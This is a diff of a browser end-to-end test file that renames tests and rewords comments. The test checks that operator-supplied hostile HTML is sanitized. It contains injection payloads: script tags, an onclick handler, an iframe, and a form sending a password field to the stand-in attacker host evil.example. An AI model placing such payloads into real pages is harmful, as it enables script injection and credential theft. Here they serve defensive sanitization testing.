@@ -1,7 +1,7 @@
 import { hostileContent } from '../../tests/support/hostile-content.ts';
 import { expect, openSite, test } from '../support/test-environment.ts';
 
-/** What an operator's editor, or whoever got at it, might send. */
+/** Content from an operator's editor, or from an attacker with access to it. */
 const hostile = `
   <p style="font-size:30px; position:fixed; inset:0; background-image:url(https://evil.example/x.png)">Friday terms</p>
   <script>window.broken = 'script'</script>
@@ -13,7 +13,7 @@ const hostile = `
   <iframe src="https://evil.example/"></iframe><form action="https://evil.example"><input name="password"></form>
   <style>body { display: none }</style><b onclick="window.broken = 'click'">bold`;
 
-test('PR-1 hostile content shows its harmless part, and nothing of it runs', async ({
+test('shows the harmless part of hostile content and runs none of it', { tag: '@PR-1' }, async ({
   page,
   environment,
 }) => {
@@ -39,7 +39,7 @@ test('PR-1 hostile content shows its harmless part, and nothing of it runs', asy
   await expect(terms).toHaveCSS('font-size', '30px');
   await expect(terms).toHaveCSS('position', 'static');
   await expect(terms).toHaveCSS('background-image', 'none');
-  // Not even the policy has anything to say.
+  // The content security policy reports no violation either.
   expect(environment.problems).toEqual([]);
 
   await content.getByRole('link', { name: 'hot games' }).click();
@@ -47,7 +47,7 @@ test('PR-1 hostile content shows its harmless part, and nothing of it runs', asy
   await expect(page.getByRole('heading', { name: /hot games/i })).toBeVisible();
 });
 
-test('PR-1 whatever the content tries, nothing runs, loads, leaves its place or offends the policy', async ({
+test('content never runs, loads, escapes its box or violates the policy', { tag: '@PR-1' }, async ({
   page,
   environment,
 }) => {
